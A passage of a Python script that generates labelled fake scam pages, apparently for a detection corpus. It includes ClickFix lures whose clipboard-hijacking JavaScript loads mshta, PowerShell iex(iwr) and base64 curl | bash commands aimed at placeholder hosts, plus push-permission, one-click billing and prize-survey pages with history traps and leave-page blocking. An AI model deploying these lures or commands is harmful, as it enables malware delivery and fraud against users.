"""Scam pages (2): ClickFix with new lures (file share, document viewer, voice message,
job-interview test, macOS Terminal, OS-aware Cloudflare look-alike, full-screen Windows
Update), push "Allow" lures, one-click billing, prize/survey scams, fake APK / iOS-profile
installs, and smishing landings (tax, utilities, toll, bank, carrier). Commands point at
example.invalid; scam hosts sit under example domains; nothing is fetched."""
import base64
from kit import scam, doc, site, hacked, p, li, q, js, table, seed

SEKOIA = "article:blog.sekoia.io"
U42 = "article:unit42.paloaltonetworks.com"
HUNT = "article:www.huntress.com"
GRAB = "MHaggis/ClickGrab"
WIKI = "clickfix-wiki/clickfix-wiki.github.io"
AMOS = "2opremio/amos-clickfix-analysis"
AWP = "awpalex/awpalex.github.io"
ROOT = "remotelyroot/remotelyroot.github.io"
PASSAIC = "article:help.passaicschools.org"
MYAS = "article:myantispyware.com"
CONSP = "article:consumer.press"
TTS = "article:truetraceshorts.pages.dev"
DUSE = "article:faq.du.se"
ITT = "article:front.it-trend.jp"
AWAI = "article:law.awaisora.com"
YBG = "article:yourbengo.jp"
SNAVI = "article:securitynavi.jp"
DEAE = "article:deaenailist.com"
PCDR = "article:pcdr-chiebukuro.com"
KREBS = "article:krebsonsecurity.com"
PHL = "article:www.phishlabs.com"
NQ = "article:nquiringminds.com"
AP = "article:www.antiphishing.jp"
KOKU = "article:www.kokusen.go.jp"
MSB = "article:www.malwarebytes.com"


def b64(s):
    return base64.b64encode(s.encode("utf-8")).decode("ascii")


def enc_ps(s):
    return base64.b64encode(s.encode("utf-16-le")).decode("ascii")


# ------------------------------------------------------------------ ClickFix
# how the text reaches the clipboard: writeText, execCommand on a hidden textarea,
# ClipboardItem, or a copy-event override
CLIP = {
    "write": "function put(){navigator.clipboard.writeText(CMD).catch(function(){});}",
    "exec": "function put(){var t=document.createElement('textarea');t.value=CMD;t.style.position='fixed';t.style.opacity='0';document.body.appendChild(t);t.select();document.execCommand('copy');t.remove();}",
    "item": "function put(){try{navigator.clipboard.write([new ClipboardItem({'text/plain':new Blob([CMD],{type:'text/plain'})})]);}catch(e){navigator.clipboard.writeText(CMD);}}",
    "event": "function put(){document.addEventListener('copy',function h(e){e.clipboardData.setData('text/plain',CMD);e.preventDefault();document.removeEventListener('copy',h);});document.execCommand('copy');}",
}
CF_CSS = """body{background:#f4f4f4}.frame{max-width:560px;margin:60px auto;background:#fff;border:1px solid #d9d9d9;border-radius:8px;box-shadow:0 2px 12px rgba(0,0,0,.08);padding:26px 30px}
.chk{display:flex;align-items:center;gap:12px;border:1px solid #ccc;background:#fafafa;border-radius:4px;padding:14px}.chk input{width:26px;height:26px}
.steps{display:none;margin-top:16px;border-top:1px solid #eee;padding-top:12px}.steps.on{display:block}.steps ol{padding-left:20px}.k{display:inline-block;border:1px solid #999;border-bottom-width:3px;border-radius:4px;padding:0 6px;font-family:monospace;background:#fff}
.brand{display:flex;align-items:center;gap:10px;font-weight:700;margin-bottom:12px}.brand i{width:30px;height:30px;border-radius:6px;display:inline-block}
.err{background:#fdecea;border:1px solid #f5c2c0;color:#8a1c14;padding:10px 12px;border-radius:4px;margin:10px 0}
.btn{display:inline-block;background:#1a73e8;color:#fff;border:0;border-radius:4px;padding:10px 18px;font-size:15px;cursor:pointer}
.doc{filter:blur(5px);pointer-events:none;user-select:none}.cover{position:fixed;inset:0;background:rgba(0,0,0,.45);display:flex;align-items:center;justify-content:center}
.note{font-size:12px;color:#777}"""


def steps(lang, kind):
    ja = lang == "ja"
    K = lambda k: '<span class="k">%s</span>' % k
    if kind == "winr":
        s = ["%s + %s を押します" % (K("⊞ Win"), K("R")), "%s + %s を押します" % (K("Ctrl"), K("V")), "%s を押して確認を完了します" % K("Enter")] if ja else \
            ["Press %s + %s" % (K("⊞ Win"), K("R")), "Press %s + %s" % (K("Ctrl"), K("V")), "Press %s to finish" % K("Enter")]
    elif kind == "winx":
        s = ["%s + %s を押し、「ターミナル（管理者）」を選びます" % (K("⊞ Win"), K("X")), "右クリックで貼り付けます", "%s を押します" % K("Enter")] if ja else \
            ["Press %s + %s and choose Terminal (Admin)" % (K("⊞ Win"), K("X")), "Right-click to paste", "Press %s" % K("Enter")]
    else:
        s = ["%s + %s で「ターミナル」と入力して開きます" % (K("⌘"), K("Space")), "%s + %s で貼り付けます" % (K("⌘"), K("V")), "%s を押し、Mac のパスワードを入力します" % K("return")] if ja else \
            ["Press %s + %s, type Terminal and open it" % (K("⌘"), K("Space")), "Press %s + %s to paste" % (K("⌘"), K("V")), "Press %s and enter your Mac password" % K("return")]
    return "<ol>%s</ol>" % "".join("<li>%s</li>" % x for x in s)


CFX = [
    # slug, url, title, lead html builder args..., cmd, clip, kind, note, src
    ("ja-cfx-fileshare", "https://daiyouryou-share.example.com/d/7Hk2pQ", "ファイル受け取り | 大容量ファイル共有",
     "fileshare", "見積書一式_2026-12.zip（48.2 MB）", "ダウンロードの前に、不正アクセス防止のための認証を行ってください。",
     "mshta https://dl-verify.example.invalid/gate.hta  # ✔ 認証コード：2281-JP", "write", "winr",
     "偽ファイル共有：認証を口実に mshta を Win+R で実行させる", GRAB),
    ("ja-cfx-docviewer", "https://sharepoint-docs.example.net/sites/keiri/shiryo.docx", "ドキュメント ビューアー",
     "docview", "契約書_修正版.docx", "ドキュメントの表示中にエラーが発生しました。オンライン表示拡張機能が読み込まれていません。「修正する」を押して、表示された手順を実行してください。",
     'powershell -w h -nop -c "iex(iwr https://docview-fix.example.invalid/ext.ps1 -UseBasicParsing)"', "exec", "winx",
     "偽ドキュメントビューアー：「修正する」→ Win+X ターミナルで PowerShell", WIKI),
    ("ja-cfx-voicemail", "https://voice-msg.example.org/play/0a91c", "ボイスメッセージ",
     "voice", "新しいボイスメッセージ（0:42）— 差出人：050-0000-1187", "音声を再生できません。ブラウザの音声コーデックが無効になっています。下の手順で有効にしてください。",
     "cmd /c start /min powershell -ep bypass -c \"iwr https://audio-codec.example.invalid/a.ps1|iex\"  :: 音声コーデック有効化", "item", "winr",
     "偽ボイスメッセージ：音声コーデックを口実に Win+R で PowerShell", ROOT),
    ("ja-cfx-interview", "https://saiyou-mensetsu.example.com/assess/room/5521", "Web面接 事前チェック",
     "interview", "一次面接（オンライン）— 株式会社サンプル 採用チーム", "面接を始める前に、カメラとマイクの確認を行います。お使いのカメラのドライバーに問題が見つかりました。",
     'powershell -nop -c "curl.exe -k -o $env:TEMP\\camfix.zip https://hire-assess.example.invalid/drv/camfix.zip; Expand-Archive $env:TEMP\\camfix.zip $env:TEMP\\cf -Force; Start-Process $env:TEMP\\cf\\update.vbs"',
     "write", "winx", "ClickFake型の偽Web面接：カメラのドライバーエラー → ターミナルで実行", SEKOIA),
    ("ja-cfx-mac-appleid", "https://appleid-kakunin.example.net/verify", "Apple ID の確認",
     "mac", "Apple ID の本人確認", "セキュリティのため、この Mac からの確認が必要です。ターミナルで確認コマンドを実行してください（30秒で完了します）。",
     '/bin/bash -c "$(echo %s | base64 -d)"' % b64("curl -fsSL https://apple-id-check.example.invalid/i.sh | bash"), "write", "mac",
     "macOS ターミナル版：Apple ID 確認を口実に base64 → curl | bash", AMOS),
    ("ja-cfx-iuam", "https://onsen-ryokou.example.org/plan/88", "お待ちください…",
     "iuam", "onsen-ryokou.example.org", "接続の安全性を確認しています。続行するには、人間であることを確認してください。",
     "os", "write", "os", "Cloudflare 風の確認画面：OS を判定して Windows は Win+R、Mac はターミナルの手順", U42),
    ("ja-cfx-winupdate", "https://kousin-center.example.com/kb5051987", "Windows Update",
     "wu", "重要な更新プログラムを構成しています", "更新を完了するには、確認コードを入力する必要があります。",
     "mshta https://wu-complete.example.invalid/kb/5051987.hta", "write", "winr",
     "全画面の偽Windows Update：更新完了を口実に Win+R で mshta", HUNT),
    ("ja-cfx-etax", "https://etax-shomei.example.org/cert/error", "e-Tax 電子証明書エラー",
     "etax", "電子証明書の読み込みに失敗しました（エラーコード：EC-2043）", "還付金の受け取り手続きを続けるには、証明書ストアを修復してください。管理者として修復コマンドを実行すると、自動的に修復されます。",
     "powershell -NoProfile -WindowStyle Hidden -EncodedCommand " + enc_ps("iex (iwr https://etax-cert.example.invalid/c.ps1 -UseBasicParsing)"), "event", "winx",
     "税務を装う偽e-Taxエラー：エンコードされた PowerShell、copy イベント書き換え", "article:www.nta.go.jp"),
    ("ja-cfx-gdrive", "https://drive-kyouyu.example.net/file/d/1aB9x/view", "Google ドライブ - 共有ファイル",
     "docview", "社員名簿_2026.xlsx", "このファイルは保護されています。閲覧するにはブラウザの確認が必要です。",
     "mshta https://gdrive-check.example.invalid/verify?id=1aB9x  # I am not a robot - ID 40112", "exec", "winr",
     "偽Googleドライブ共有：閲覧確認を口実に mshta", GRAB),
    ("en-cfx-fileshare", "https://secure-transfer.example.com/r/Q8vL2", "Files ready | SecureTransfer",
     "fileshare", "Q4_payroll_adjustments.pdf (2.1 MB)", "For your security, confirm you are human before downloading.",
     "mshta https://transfer-verify.example.invalid/ok.hta # Verification ID: 77120", "item", "winr",
     "Fake file-share page: 'confirm you are human' → mshta via Win+R", GRAB),
    ("en-cfx-docusign", "https://docusign-envelope.example.net/review/4410", "DocuSign | Review document",
     "docview", "Please review and sign: Lease_Agreement_2026.pdf", "The document viewer failed to load (error 0x1F4). Click Fix and follow the steps to repair the viewer.",
     'powershell -w hidden -c "$u=\'https://sign-viewer.example.invalid/fix.ps1\';iex (New-Object Net.WebClient).DownloadString($u)"', "write", "winr",
     "Fake DocuSign viewer error: Fix button → PowerShell via Win+R", WIKI),
    ("en-cfx-voicemail", "https://vm-center.example.org/msg/ab71", "New voicemail",
     "voice", "New voicemail (1:07) from +1 (555) 010-0143", "Audio playback is blocked. Enable the audio driver to listen.",
     'cmd /c powershell -ep bypass -w h -c "iwr https://vm-audio.example.invalid/enable.ps1 | iex" & rem enable audio', "exec", "winr",
     "Fake voicemail player: 'enable audio' → Win+R PowerShell", ROOT),
    ("en-cfx-interview-mac", "https://talent-assess.example.com/video/intro", "Video assessment | Talent",
     "interview", "Video interview: Senior Product Designer", "Your camera could not be accessed (error CAM_DRV_41). Run the fix in Terminal, then reload.",
     '/bin/bash -c "$(echo %s | base64 -d)"' % b64("curl -s https://hire-assess.example.invalid/cam/fix.sh | sh"), "write", "mac",
     "ClickFake interview on macOS: camera error → Terminal, base64 → curl | sh", SEKOIA),
    ("en-cfx-github", "https://github-advisory.example.net/alert/GHSA-2026-114", "Security alert | GitHub",
     "gh", "Security vulnerability detected in your repository", "To review the advisory, verify you are human.",
     'powershell.exe -w 1 -c "iwr https://gh-scan.example.invalid/s.ps1 | iex" # ✓ GitHub verification', "write", "winr",
     "Fake GitHub advisory page: human check → PowerShell via Win+R", AWP),
    ("en-cfx-iuam", "https://crypto-daily.example.org/article/5512", "Just a moment...",
     "iuam", "crypto-daily.example.org", "Checking if the site connection is secure. Complete the check to continue.",
     "os", "item", "os", "Cloudflare-look page that picks Windows (Win+R) or macOS (Terminal) steps", U42),
    ("en-cfx-winupdate", "https://update-services.example.com/", "Working on updates",
     "wu", "Working on updates 100% complete", "Your PC needs to finish installing updates. Enter the confirmation command to continue.",
     "mshta https://wu-finish.example.invalid/kb/5053656", "exec", "winr",
     "Full-screen fake Windows Update: mshta via Win+R", HUNT),
    ("en-cfx-steam", "https://steamcommunity-verify.example.net/login", "Steam Guard verification",
     "gh", "Steam Guard: confirm this device", "Unusual sign-in from a new device. Complete the human check to keep your inventory.",
     'powershell -w h -c "irm https://steam-guard.example.invalid/v | iex"', "event", "winr",
     "Fake Steam verification: copy event → PowerShell via Win+R", GRAB),
]


CHROME = {"ja-cfx-fileshare": ("大容量ファイル共有サービス", "#2f80ed"), "en-cfx-fileshare": ("SecureTransfer", "#2f80ed"),
          "ja-cfx-voicemail": ("ボイスメッセージ センター", "#34a853"), "en-cfx-voicemail": ("Voicemail Center", "#34a853"),
          "ja-cfx-interview": ("採用Web面接システム", "#6d28d9"), "en-cfx-interview-mac": ("TalentAssess", "#6d28d9"),
          "en-cfx-github": ("GitHub", "#24292f"), "en-cfx-steam": ("Steam", "#1b2838"), "ja-cfx-etax": ("e-Tax 国税電子申告・納税システム", "#1a4d8f"),
          "ja-cfx-mac-appleid": ("Apple ID", "#111")}


def cfx_page(slug, url, title, style, head, lead, cmd, clip, kind, note, src):
    lang = slug[:2]
    ja = lang == "ja"
    if cmd == "os":
        cmdjs = ("var CMD=/Mac/.test(navigator.platform||navigator.userAgent)?%s:%s;" % (
            js('/bin/bash -c "$(curl -fsSL https://cdn-verify.example.invalid/m.sh)"'),
            js('powershell -w h -nop -c "iex(irm https://cdn-verify.example.invalid/w.ps1)" # Cloudflare Ray ID: 8f2a11')))
        stp = '<div id="sw">%s</div><div id="sm" hidden>%s</div>' % (steps(lang, "winr"), steps(lang, "mac"))
        extra = "if(/Mac/.test(navigator.platform||navigator.userAgent)){document.getElementById('sw').hidden=true;document.getElementById('sm').hidden=false;}"
    else:
        cmdjs = "var CMD=%s;" % js(cmd)
        stp = steps(lang, kind)
        extra = ""
    chk = ('<div class="chk"><input type="checkbox" id="go"><label for="go">%s</label><span class="note" style="margin-left:auto">%s</span></div>'
           % ("私はロボットではありません" if ja else "I'm not a robot", "reCAPTCHA<br>プライバシー - 利用規約" if ja else "reCAPTCHA<br>Privacy - Terms"))
    fixb = '<p><button class="btn" id="go" type="button">%s</button></p>'
    if style in ("fileshare",):
        inner = ('<div class="brand"><i style="background:#2f80ed"></i>%s</div><h2 style="font-size:18px">%s</h2><p>%s</p>%s'
                 % ("ファイル共有" if ja else "SecureTransfer", q(head), q(lead), chk))
    elif style == "docview":
        inner = ('<div class="brand"><i style="background:#185abd"></i>%s</div><div class="err">%s</div><p>%s</p>%s'
                 % (q(head), "表示エラー" if ja else "Viewer error", q(lead), fixb % ("修正する" if ja else "Fix")))
    elif style == "voice":
        inner = ('<div class="brand"><i style="background:#34a853"></i>%s</div><p style="font-size:18px">▶ ━━━━━━━━━━ 0:00 / %s</p><div class="err">%s</div>%s'
                 % (q(head.split("—")[0] if ja else head.split(" from ")[0]), "0:42" if ja else "1:07", q(lead), fixb % ("音声を有効にする" if ja else "Enable audio")))
    elif style == "interview":
        inner = ('<div class="brand"><i style="background:#6d28d9"></i>%s</div><video style="width:100%%;height:200px;background:#111"></video><div class="err">%s</div>%s'
                 % (q(head), q(lead), fixb % ("問題を修正" if ja else "Fix camera")))
    elif style == "mac":
        inner = ('<div class="brand"><i style="background:#111"></i>%s</div><p>%s</p>%s' % (q(head), q(lead), fixb % ("確認コマンドをコピー" if ja else "Copy verification command")))
    elif style == "iuam":
        inner = ('<h1 style="font-size:26px;font-weight:500">%s</h1><p>%s</p>%s<p class="note">Ray ID: %x</p>' % (q(head), q(lead), chk, seed(slug)))
    elif style == "wu":
        inner = ('<div style="color:#fff;text-align:center"><div style="font-size:40px;margin-bottom:20px">◌</div><h1 style="font-weight:300">%s</h1><p>%s</p>%s</div>'
                 % (q(head), q(lead), fixb % ("確認を開始" if ja else "Continue")))
    elif style == "etax":
        inner = ('<div class="brand"><i style="background:#1a4d8f"></i>e-Tax 国税電子申告・納税システム</div><div class="err">%s</div><p>%s</p>%s'
                 % (q(head), q(lead), fixb % "修復する"))
    else:  # gh
        inner = ('<div class="brand"><i style="background:#24292f"></i>%s</div><p>%s</p>%s' % (q(head), q(lead), chk))
    body = '<div class="frame" id="fr">%s<div class="steps" id="st"><strong>%s</strong>%s<p class="note">%s</p></div></div>' % (
        inner, "確認の手順" if ja else "Verification steps", stp,
        "この手順は一度だけ必要です。" if ja else "You only need to do this once.")
    css = CF_CSS
    if style == "wu":
        css += "\nbody{background:#0078d7}.frame{background:transparent;border:0;box-shadow:none}.steps{color:#fff}"
        extra += "document.addEventListener('click',function(){document.documentElement.requestFullscreen().catch(function(){});},{once:true});"
    if style in ("docview",):
        body = '<div class="doc">%s</div><div class="cover">%s</div>' % ("".join("<p>%s</p>" % ("第%d条 本契約の目的および範囲について定める。" % i if ja else "Section %d. Terms and conditions of this agreement." % i) for i in range(1, 16)), body)
    script = cmdjs + CLIP[clip] + extra + (
        "document.getElementById('go').addEventListener('click',function(){put();document.getElementById('st').classList.add('on');});")
    if slug in CHROME:
        brand, color = CHROME[slug]
        page = site(lang, title, brand, body, nav=[("ホーム" if ja else "Home", "/"), ("ヘルプ" if ja else "Help", "/help"), ("ログイン" if ja else "Sign in", "/login")],
                    crumbs=[title], color=color, css=CF_CSS.replace("body{background:#f4f4f4}", "").replace(".btn{", ".frame .btn{"), script=script, section="app")
    else:
        page = doc(lang, title, body, css, script)
    scam(slug, lang, url, "clickfix", note, page, src)


for row in CFX:
    cfx_page(*row)

# ------------------------------------------------------------------ push "Allow" lures (alert)
PUSH_CSS = """body{background:#1b1b1b;color:#fff;text-align:center}.arrow{position:fixed;left:120px;top:10px;font-size:90px;animation:b 1s infinite}
@keyframes b{50%{transform:translateY(12px)}}.big{font-size:34px;margin-top:160px}.sub{font-size:18px;color:#ccc}.bx{display:inline-block;background:#fff;color:#111;border-radius:8px;padding:20px 30px;margin-top:20px}"""
PUSHES = [
    ("ja-push-wifi", "https://free-wifi-setsuzoku.example.com/?cid=91", "インターネットに接続するには「許可」を押してください", "Wi-Fi の接続を完了するには、ブラウザに表示されている「許可」を押してください。", "load", MYAS),
    ("ja-push-kyufukin", "https://kyufukin-oshirase.example.net/", "給付金のお知らせを受け取るには「許可」", "お住まいの地域の給付金（最大10万円）の受付開始をお知らせします。「許可」を押して登録完了。", "load", CONSP),
    ("ja-push-comment", "https://geinou-matome.example.org/a/5512", "コメントを表示するには「許可」をクリック", "このまとめのコメント（328件）は、通知を許可した方のみ閲覧できます。", "click", DUSE),
    ("ja-push-coupon", "https://coupon-get.example.com/gift", "クーポンを受け取るには「許可」を押してください", "あなたに 3,000円分のクーポンが届いています。「許可」で受け取り完了です。", "load", CONSP),
    ("ja-push-close", "https://ad-landing.example.net/p/2", "このページを閉じるには「許可」を押してください", "×ボタンは使えません。「許可」を押すと元のページに戻ります。", "load", MYAS),
    ("ja-push-battery", "https://smart-optimize.example.org/", "バッテリーが劣化しています", "「許可」を押すと、バッテリー節約モードが有効になります（無料）。", "click", TTS),
    ("en-push-connect", "https://net-access.example.com/", "Press Allow to connect to the internet", "Your connection is not finished. Click Allow in the browser prompt to continue.", "load", MYAS),
    ("en-push-close", "https://popup-redirect.example.net/x", "Click Allow to close this window", "This window can only be closed after you press Allow.", "load", MYAS),
    ("en-push-voicenote", "https://audio-msg.example.org/listen", "Click Allow to play your audio message", "You have 1 new audio message. Press Allow to listen.", "load", TTS),
    ("en-push-match", "https://local-singles.example.com/inbox", "3 women sent you messages", "Press Allow to read your messages now.", "click", CONSP),
    ("en-push-continue", "https://site-continue.example.net/go?u=4", "Click Allow to continue to the website", "Confirm in the browser to be redirected.", "load", DUSE),
]
for slug, url, big, sub, when, src in PUSHES:
    lang = slug[:2]
    ja = lang == "ja"
    body = '<div class="arrow">&#8598;</div><div class="big">%s</div><p class="sub">%s</p><div class="bx"><button id="al" style="font-size:20px;padding:10px 30px">%s</button></div>' % (
        q(big), q(sub), "許可" if ja else "Allow")
    body += ('<div style="max-width:640px;margin:30px auto;background:#000;height:300px;position:relative"><div style="position:absolute;left:50%%;top:50%%;transform:translate(-50%%,-50%%);'
             'font-size:60px;color:#666">&#9654;</div><div style="position:absolute;bottom:0;left:0;right:0;height:6px;background:#333"><i style="display:block;width:%d%%;height:100%%;background:#e00"></i></div></div>'
             '<p class="sub">%s <span id="pct">0</span>%%</p><p style="font-size:11px;color:#777">%s</p>'
             % (seed(slug) % 60 + 20, "読み込み中…" if ja else "Loading…", "© 2026 All rights reserved. プライバシー / 利用規約" if ja else "© 2026 All rights reserved. Privacy / Terms"))
    body += "<script>var pc=0;setInterval(function(){pc=Math.min(99,pc+3);document.getElementById('pct').textContent=pc;},200);</script>"
    ask = ("function ask(){if(!('Notification' in window))return;Notification.requestPermission().then(function(r){if(r==='granted'){"
           "navigator.serviceWorker&&navigator.serviceWorker.register('sw.js').catch(function(){});location.href='/thanks?sub=1';}else{setTimeout(ask,1500);}});}")
    script = ask + ("ask();" if when == "load" else "") + "document.getElementById('al').addEventListener('click',ask);"
    scam(slug, lang, url, "notification-abuse", "Push-permission lure (%s)" % ("requestPermission on load" if when == "load" else "button then requestPermission"),
         doc(lang, big, body, PUSH_CSS, script), src, expect="alert")

# ------------------------------------------------------------------ one-click billing (ja)
OC_CSS = """body{background:#fff4f4}.w{max-width:640px;margin:20px auto;background:#fff;border:3px double #c00;padding:20px 24px}.w h1{color:#c00;font-size:24px;text-align:center}
.amt{font-size:34px;color:#c00;font-weight:700;text-align:center}.dev{background:#f6f6f6;font-family:monospace;font-size:13px;padding:10px;word-break:break-all}
.tel{font-size:26px;font-weight:700;text-align:center}.small{font-size:12px;color:#666}"""
DEVINFO = ("document.getElementById('ua').textContent=navigator.userAgent;document.getElementById('dt').textContent=new Date().toLocaleString('ja-JP');"
           "document.getElementById('ip').textContent='126.'+(Date.now()%200)+'.'+(Date.now()%97)+'.'+(Date.now()%251);")
TERMS = ["本サイトの閲覧ボタンを押した時点で、利用者は本規約に同意したものとみなします。", "登録完了後の取消・返金には応じません。",
         "期限までにお支払いがない場合、延滞料金および回収にかかる費用を請求します。", "利用者の端末情報・接続情報は、料金回収のために記録・利用します。",
         "未払いが続く場合、調査会社による調査を行うことがあります。", "本規約に関する紛争は、当社所在地の裁判所を専属的合意管轄とします。"]
ONECLICK = [
    ("ja-oc-kaiyaku-24h", "https://premium-douga.example.com/entry/done", "お申し込みありがとうございます", "98,000円",
     ["有料動画会員へのお申し込みが完了しました。", "24時間以内に解約手続きをされない場合、利用料金が確定します。", "解約をご希望の方は、下の欄にメールアドレスを入力して送信してください。"],
     "", "countdown email", "24時間以内に解約しないと請求確定、解約にメールアドレスを入力させる", AWAI),
    ("ja-oc-popup-window", "https://sample-movie.example.net/play/221", "動画再生", "79,800円",
     ["再生ボタンが押されたため、会員登録が完了しました。", "登録内容は別ウィンドウでご確認ください。"],
     "050-0000-3392", "popup", "再生ボタンで別ウィンドウを開き登録完了を表示", YBG),
    ("ja-oc-vibe-beep", "https://av-free.example.org/kaiin/thanks", "【登録完了】", "120,000円",
     ["ご登録ありがとうございます。お客様の端末情報を取得しました。", "お支払い期限内にご入金がない場合、延滞料金が加算されます。"],
     "０５０－００００－８８１２", "vibe beep", "警告音と振動、全角番号、端末情報", ITT),
    ("ja-oc-entai-counter", "https://yuryou-saito.example.com/seikyu/4412", "ご利用料金未払いのお知らせ", "65,000円",
     ["お客様は当サイトの有料コンテンツをご利用になりました。", "お支払いが確認できないため、延滞金が日々加算されています。", "ご連絡がない場合、法的措置（少額訴訟）に移行いたします。"],
     "050-0000-4127", "counter hist", "延滞金が秒単位で増える表示、履歴トラップ、法的措置", PCDR),
    ("ja-oc-atobarai-point", "https://deai-cafe.example.net/point/complete", "ポイント後払い購入が完了しました", "30,000円",
     ["ポイント（3,000pt）の後払い購入が完了しました。", "お支払い期限：3日以内（期限を過ぎると延滞手数料 5,000円）", "お支払いはコンビニ払込番号をご利用ください。"],
     "", "conbini", "出会い系：クリックだけで「後払い購入完了」、コンビニ番号", DEAE),
    ("ja-oc-line-gomenasai", "https://adult-touroku.example.org/complete", "登録完了", "89,000円",
     ["ご登録ありがとうございました。", "お間違いで登録された方は、LINE ID または電話で至急ご連絡ください。放置されますと自宅へ請求書を郵送いたします。"],
     "050-0000-7019", "line", "誤登録を装い電話・LINE へ誘導", SNAVI),
    ("ja-oc-geo-jusho", "https://gazou-dl.example.com/member/fin", "会員登録完了のお知らせ", "150,000円",
     ["お客様の位置情報を取得しました。ご請求書をご住所へ郵送する準備ができています。", "郵送を希望されない方は、期限内にお支払いください。"],
     "0120-000-846", "geo", "位置情報の許可を求め「住所を特定」と脅す", KOKU),
    ("ja-oc-unload-conbini", "https://h-movie.example.net/pay/", "【重要】お支払いのご案内", "59,800円",
     ["会員登録が完了しております。本ページを閉じても登録は取り消されません。", "お支払い期限：本日 23:59 まで"],
     "０１２０－０００－５５３", "unload conbini", "閉じようとすると引き止め、全角番号、コンビニ払い", "article:www.ipa.go.jp"),
    ("ja-oc-shutter-front", "https://jidori-gazou.example.org/view", "年齢認証完了", "95,000円",
     ["年齢認証が完了し、正会員として登録されました。", "ご本人確認のため、お客様のお顔を撮影しました（カシャッ）。"],
     "050-0000-6614", "shutter", "年齢認証ボタンで登録、シャッター音で撮影を装う", ITT),
]
for slug, url, h1, amt, paras, tel, mech, note, src in ONECLICK:
    m = mech.split()
    body = ('<div class="w"><h1>%s</h1>%s<div class="amt">ご請求金額：%s</div>'
            '<p>お支払い期限：<strong id="lim">登録日から3日以内</strong></p>'
            '<div class="dev">登録ID：%08d<br>登録日時：<span id="dt"></span><br>IPアドレス：<span id="ip"></span><br>端末情報：<span id="ua"></span></div>'
            % (q(h1), p(*map(q, paras)), q(amt), seed(slug) % 100000000))
    script = DEVINFO
    if tel:
        body += '<p class="tel">お問い合わせ：%s</p><p class="small">受付時間 10:00〜22:00（日本語）</p>' % q(tel)
    if "countdown" in m:
        body += '<p>解約期限まで：<strong id="cd">23:59:59</strong></p>'
        script += "var s=86399;setInterval(function(){s--;document.getElementById('cd').textContent=Math.floor(s/3600)+':'+('0'+Math.floor(s/60)%60).slice(-2)+':'+('0'+s%60).slice(-2);},1000);"
    if "email" in m:
        body += '<form onsubmit="return false"><label>メールアドレス <input type="email" id="em"></label> <button id="sb">解約申請</button></form>'
        script += "document.getElementById('sb').onclick=function(){alert('解約を受け付けました。確認メールに記載の料金をお支払いください。');};"
    if "popup" in m:
        body += '<p><button id="pl" style="font-size:22px">▶ 再生</button></p>'
        script += "document.getElementById('pl').onclick=function(){var w=window.open('','touroku','width=480,height=520');if(w){w.document.write('<h1 style=\"color:red\">登録完了</h1><p>ご請求金額 79,800円</p><p>お問い合わせ 050-0000-3392</p>');}};"
    if "vibe" in m:
        script += "if(navigator.vibrate){navigator.vibrate([600,200,600,200,600]);}var ac;document.addEventListener('touchstart',function(){ac=ac||new AudioContext();var o=ac.createOscillator();o.frequency.value=1200;o.connect(ac.destination);o.start();o.stop(ac.currentTime+1.5);});"
    if "beep" in m:
        script += "var bp=new Audio('media/keikoku.mp3');bp.loop=true;bp.play().catch(function(){});"
    if "counter" in m:
        body += '<p>現在の延滞金：<strong id="late">0</strong>円（毎秒加算）</p>'
        script += "var late=0;setInterval(function(){late+=13;document.getElementById('late').textContent=late.toLocaleString();},1000);"
    if "hist" in m:
        script += "for(var k=0;k<20;k++){history.pushState(null,'',location.href);}onpopstate=function(){history.pushState(null,'',location.href);alert('お支払いが完了するまで退会できません');};"
    if "conbini" in m:
        body += table([("お支払い方法", "コンビニ払い（ローソン・ファミリーマート）"), ("お客様番号", "%012d" % (seed(slug) * 13 % 10 ** 12)), ("確認番号", "4411")])
    if "line" in m:
        body += '<p style="text-align:center">LINE ID：<strong>@sample-shiharai</strong></p>'
    if "geo" in m:
        script += "navigator.geolocation&&navigator.geolocation.getCurrentPosition(function(ps){document.getElementById('ip').textContent+=' / 位置：'+ps.coords.latitude.toFixed(3)+','+ps.coords.longitude.toFixed(3);});"
    if "unload" in m:
        script += "onbeforeunload=function(e){e.returnValue='まだお支払いが完了していません';return e.returnValue;};"
    if "shutter" in m:
        script += "var sh=new Audio('media/shutter.mp3');setTimeout(function(){sh.play().catch(function(){});document.body.style.background='#fff';},700);"
    body += ('<h2 style="font-size:16px">利用規約（抜粋）</h2><ol class="small">%s</ol><h2 style="font-size:16px">特定商取引法に基づく表記</h2>%s</div>'
             % ("".join("<li>%s</li>" % q(t) for t in TERMS), table([("運営", "%s 運営事務局" % url.split("/")[2]), ("所在地", "東京都港区（詳細はお問い合わせください）"),
                                                                    ("料金", q(amt)), ("支払時期", "登録日から3日以内"), ("キャンセル", "登録完了後の取消はできません")])))
    scam(slug, "ja", url, "one-click-billing", note, doc("ja", h1, body, OC_CSS, script), src)

# ------------------------------------------------------------------ prize / survey scams
PZ_CSS = """body{background:#f3f3f3}.top{background:%s;color:#fff;padding:12px 20px;font-weight:700}.w{max-width:560px;margin:16px auto;background:#fff;padding:18px 22px;border-radius:8px}
.q button{display:block;width:100%%;margin:6px 0;padding:10px;border:1px solid #ccc;background:#fafafa;border-radius:6px;font-size:15px}
.gift{text-align:center;font-size:22px}.cm{border-top:1px solid #eee;font-size:13px;padding:8px 0}.cm b{color:#365899}#card{display:none}"""
PRIZES = [
    ("ja-pz-rakuten-kinen", "https://rakuten-kinen.example.com/survey/", "楽天 創業記念 ご愛顧感謝アンケート", "#bf0000",
     ["楽天をよくご利用になりますか？", "年齢を教えてください", "この企画を友人に紹介しますか？"], "最新 iPhone または 50,000 ポイント", "送料 300円", "ポイント当選のアンケート詐欺（カード入力）", "article:www.antiphishing.jp"),
    ("ja-pz-dpoint", "https://dpoint-present.example.net/q/", "dポイント 10万ポイント プレゼント", "#cc0033",
     ["ドコモのスマホをお使いですか？", "dポイントをよく使うお店は？", "満足度を教えてください"], "100,000 dポイント", "事務手数料 500円", "キャリアのポイントを装うアンケート詐欺", "article:www.docomo.ne.jp"),
    ("ja-pz-yahoo-spin", "https://yahoo-chusen.example.org/", "Yahoo! JAPAN ユーザー様 限定抽選", "#ff0033",
     [], "ニンテンドー Switch 2", "配送料 250円", "ポータルを装う福引き・スピン当選", MSB),
    ("ja-pz-line-iphone", "https://line-tomodachi.example.com/gift", "LINE 友だち限定 iPhone 抽選会", "#06c755",
     ["LINEを毎日使いますか？", "ご家族は何人ですか？"], "iPhone 17 Pro", "送料 500円", "メッセージアプリを装う当選詐欺", "article:guide.line.me"),
    ("en-pz-costco", "https://costco-anniversary.example.com/", "Costco 40th Anniversary Reward", "#005daa",
